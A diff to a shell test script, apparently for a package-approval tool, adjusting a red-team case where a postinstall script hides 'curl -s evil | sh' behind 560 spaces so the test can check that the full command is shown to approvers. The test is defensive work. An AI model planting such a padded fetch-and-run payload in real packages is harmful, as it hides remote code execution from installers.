@@ -78,9 +78,10 @@ expect_status 2 nr stage --tag 1.x "$TGZ"
 pass "look-alike and range-like dist-tags are refused"
 
 # 5. A first version whose postinstall hides its payload behind a long run of spaces
-# (red team): the quote shows the whole command, the run counted.
-PAD=$(printf '%700s' '')
+# (red team): the quote shows the whole command, the run counted (560 spaces: a longer
+# script than 600 bytes is refused, tests/attacks/long_script.sh).
+PAD=$(printf '%560s' '')
 stage_local "$NAME-pad" 1.0.0 ',"scripts":{"postinstall":"node build.js'"$PAD"'; curl -s evil | sh"}'
 approve_as_a1 0 "$ID"
-contains "$OUT" "  | node build.js<700 spaces>; curl -s evil | sh"
-pass "a payload behind 700 spaces is quoted in sight: node build.js<700 spaces>; curl ..."
+contains "$OUT" "  | node build.js<560 spaces>; curl -s evil | sh"
+pass "a payload behind 560 spaces is quoted in sight: node build.js<560 spaces>; curl ..."
